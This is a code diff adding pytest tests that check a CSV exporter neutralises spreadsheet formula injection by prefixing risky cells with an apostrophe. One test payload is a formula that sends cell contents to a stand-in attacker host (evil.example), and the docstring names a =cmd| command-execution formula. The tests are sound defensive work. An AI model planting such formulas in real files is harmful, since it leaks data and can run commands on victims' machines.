@@ -225,3 +225,28 @@ def test_export_to_stdout_and_bad_arguments(services, seeded):
 def test_default_path_is_in_the_exports_folder(services, seeded):
     res = exporting.export(services, "md", now=NOW)
     assert res.path.parent == services.locations.exports_dir and res.path.name.endswith("report.md")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_start_a_formula_are_neutralised(services, tmp_path, start):
+    """An answer (or an override reason) beginning with a formula character is written with a leading
+    apostrophe, so a spreadsheet shows it as text instead of running =HYPERLINK(...) or =cmd|...; the rest of
+    the text is kept whole, and numbers (scores) are never touched."""
+    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    st = services.store
+    q = services.bank().questions[0]
+    aid = add(st, q.id, day(0), 40, answer=payload)
+    history.add_override(st, aid, 55, start + "SUM(1,2)", now=day(0, 1))
+    text, n = exporting.render_csv(services)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert n == 1
+    assert row["answer"] == "'" + payload and row["override_reason"] == "'" + start + "SUM(1,2)"
+    assert (row["score"], row["model_score"], row["override_score"]) == ("55", "40", "55")
+    for name, value in row.items():
+        assert not value.startswith(exporting.FORMULA_START), (name, value)
+
+
+def test_csv_leaves_ordinary_text_alone(services):
+    add(services.store, services.bank().questions[0].id, day(0), 70, answer="Queries, keys - and values = 3 parts")
+    row = next(csv.DictReader(io.StringIO(exporting.render_csv(services)[0])))
+    assert row["answer"] == "Queries, keys - and values = 3 parts"
